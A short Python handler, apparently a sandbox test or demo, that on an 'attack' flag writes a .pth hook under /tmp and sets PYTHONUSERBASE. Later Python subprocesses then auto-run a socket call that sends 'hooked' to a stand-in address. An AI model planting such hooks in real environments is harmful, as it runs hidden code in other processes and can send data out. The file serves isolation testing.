# Harmless: the hook sends one word to an address that exists on the sandbox's loopback device only.
import os
import subprocess
import sys

HOOK = "import socket; socket.create_connection(('203.0.113.7', 443)).send(b'hooked')\n"


def handler(event, context):
    if event.get("attack"):
        folder = "/tmp/.local/lib/python%d.%d/site-packages" % sys.version_info[:2]
        os.makedirs(folder)
        with open(folder + "/colours.pth", "w") as hook:
            hook.write(HOOK)
        os.environ["PYTHONUSERBASE"] = "/tmp/.local"
    # What this function always does: it hands a job to another process.
    if event.get("job"):
        subprocess.run([sys.executable, "-c", "pass"])
    return "ok"
